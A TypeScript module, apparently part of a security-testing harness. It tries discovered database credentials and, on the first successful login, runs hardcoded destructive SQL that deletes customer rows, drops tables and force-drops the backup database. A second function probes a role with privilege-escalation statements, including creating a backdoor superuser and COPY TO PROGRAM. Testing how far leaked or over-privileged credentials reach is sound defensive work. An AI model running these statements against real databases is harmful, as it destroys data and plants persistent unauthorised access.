import type { Attempt } from '../attempts.ts'
import { type Login, using } from './database.ts'
import { codeOf, tell } from './say.ts'
import type { Found } from './search.ts'

/** What it does wherever it gets in. The backup lies beside the data, under the same credential. */
const DESTROY = [
  'DELETE FROM customers',
  'DROP TABLE orders, customers',
  'DROP DATABASE orders_backup WITH (FORCE)',
]

/** Tries what it found, and where it gets in for the first time, destroys. @returns the login that let it in */
export async function tryAll(
  attempt: Attempt,
  found: readonly Found[],
  done: boolean,
): Promise<Login | undefined> {
  let last: { code: string; where: string } | undefined
  for (const { where, login } of found) {
    try {
      const what = await using(login, async (sql) => {
        const [me] = await sql`SELECT rolsuper FROM pg_roles WHERE rolname = current_user`
        if (!done) for (const statement of DESTROY) await sql.unsafe(statement)
        const role = `${login.user}${me?.['rolsuper'] ? ', a superuser' : ''}`
        return done ? `logs in as ${role}` : `as ${role}: ${DESTROY.join('; ')}`
      })
      tell(attempt, 'reached', 'ok', `${where} ${what}`)
      return login
    } catch (error) {
      last = { code: codeOf(error), where }
    }
  }
  if (last) tell(attempt, 'refused', last.code, last.where)
  else tell(attempt, 'absent', 'nothing found')
  return undefined
}

/** What a leased role could do to the environment that it is for, if it were more than it should be. */
export async function tryDanger(login: Login): Promise<void> {
  const statements = [
    'DELETE FROM orders',
    'TRUNCATE customers',
    'DROP TABLE orders',
    'CREATE ROLE backdoor LOGIN SUPERUSER',
    'SET ROLE broker_root',
    "COPY (SELECT 1) TO PROGRAM 'true'",
  ]
  const codes: string[] = []
  for (const statement of statements) {
    try {
      await using(login, (sql) => sql.unsafe(statement))
      return tell('staging-sql', 'reached', 'ok', statement)
    } catch (error) {
      codes.push(codeOf(error))
    }
  }
  tell('staging-sql', 'refused', [...new Set(codes)].join(' '), `${codes.length} statements`)
}
